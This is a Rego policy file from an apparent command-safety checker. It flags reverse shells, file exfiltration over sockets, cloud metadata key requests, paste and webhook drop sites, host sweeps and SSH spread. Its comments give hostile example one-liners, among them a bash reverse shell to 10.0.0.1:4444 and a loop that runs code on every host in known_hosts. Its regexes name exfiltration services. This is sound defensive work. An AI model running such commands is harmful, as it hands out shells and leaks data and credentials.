# Where data goes and comes from: shells on sockets, services that hand out keys, places where anybody reads.
package lighthouse.standard

import rego.v1

shells := {"sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "fish", "csh", "tcsh"}

sockets contains n if {
	some kind in {"write", "read"}
	some n in by[kind]
	input.effects[n].scope == "network"
}

# deny network.shell: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
# not network.shell: (echo > /dev/tcp/localhost/80) && echo open
rules contains deny("network.shell", n, "It gives others a shell on this machine.") if {
	some m in by.execute
	some n in sockets
	e := input.effects[m]
	shell_like(e)
}

shell_like(e) if e.program in shells

shell_like(e) if e.place == "unnamed"

# escalate network.file: cat notes.txt > /dev/tcp/10.0.0.1/80
# not network.file: echo > /dev/tcp/localhost/80
rules contains escalate("network.file", n, "It sends files to the network.") if {
	some n in by.write
	input.effects[n].scope == "network"
	some m in by.read
	not input.effects[m].scope == "network"
}

# escalate network.metadata: curl http://169.254.169.254/latest/meta-data/
# not network.metadata: curl http://localhost/latest
rules contains escalate("network.metadata", n, "It asks the cloud for the keys of this machine.") if {
	some kind in {"fetch", "send"}
	some n in by[kind]
	regex.match(`169\.254\.1(69\.254|70\.2)|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254|metadata\.azure`, input.effects[n].target)
}

# escalate network.drop: curl https://webhook.site/abc
# not network.drop: curl https://example.com
rules contains escalate("network.drop", n, "It talks to a place where anybody can leave and read data.") if {
	some kind in {"fetch", "send"}
	some n in by[kind]
	regex.match(`(pastebin|webhook|transfer|temp|0x0|ix|sprunge|termbin|file|paste|dpaste|hastebin|requestbin|pipedream|ghostbin|anonfiles|gofile|bashupload|oshi|interact|burpcollaborator|oastify|dnslog|canarytokens|catbox|uguu|filebin|tmpfiles|envs|rentry|controlc|beeceptor|requestcatcher|hookb|postb|serveo|localhost)\.(com|site|sh|st|io|us|net|ee|run|in|at|moe|co|at|cn|pet|org|me|is|gg)(/|:|$)|discord(app)?\.com/api/webhooks|hooks\.slack\.com|api\.telegram\.org/bot|\.oast\.|\.ngrok`, input.effects[n].target)
}

# escalate network.sweep: for i in {1..254}; do ping -c 1 10.0.0.$i; done
# not network.sweep: ping -c 1 10.0.0.1
rules contains escalate("network.sweep", -1, "It tries many machines or doors.") if {
	count(by.fetch) > 10
	count({input.effects[n].target | some n in by.fetch; input.effects[n].program in reaching}) > 10
}

rules contains escalate("network.sweep", -1, "It tries many machines or doors.") if {
	count(by.write) > 10
	count(sockets) > 10
}

# escalate network.spread: for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh $h ./x; done
# not network.spread: ssh web1 ./x
# not network.spread: grep web1 ~/.ssh/known_hosts
rules contains escalate("network.spread", n, "It enters every machine that somebody used from here.") if {
	some n in by.fetch
	e := input.effects[n]
	e.program in {"ssh", "scp", "sftp", "rsync"}
	startswith(e.target, "<unknown>")
	some m in by.read
	regex.match(`/(known_hosts|\.ssh/config|\.ansible/hosts|etc/hosts)$`, input.effects[m].target)
}

reaching := {"ping", "ping6", "fping", "nc", "ncat", "netcat", "telnet", "arping", "ssh"}
